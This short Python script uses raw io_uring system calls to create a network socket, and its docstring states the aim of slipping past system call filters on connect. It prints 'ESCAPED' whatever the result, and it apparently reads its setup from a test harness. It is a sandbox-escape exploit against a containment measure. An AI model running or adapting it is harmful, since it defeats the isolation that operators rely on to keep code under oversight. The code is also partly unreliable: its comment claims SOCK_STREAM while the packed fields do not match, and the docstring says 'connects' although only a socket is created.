"""Connects through io_uring, which system call filters on connect do not see."""
import ctypes, json, mmap, os, struct

world = json.loads(input())
libc = ctypes.CDLL(None, use_errno=True)
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, ctypes.byref(parameters))
if ring < 0:
    print("held:", os.strerror(ctypes.get_errno()))
    raise SystemExit
offsets = struct.unpack_from("<10I", parameters.raw, 40)
tail, array = offsets[1], offsets[6]
rings = mmap.mmap(ring, 4096, offset=0)
entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
struct.pack_into("<BBHiQQIIQ", entries, 0, 45, 0, 0, 2, 0, 0, 1, 0, 1)  # IORING_OP_SOCKET: AF_INET, SOCK_STREAM
struct.pack_into("<I", rings, array, 0)
struct.pack_into("<I", rings, tail, 1)
done = libc.syscall(426, ring, 1, 1, 1, None, 0)
print("ESCAPED: a ring takes orders", done)
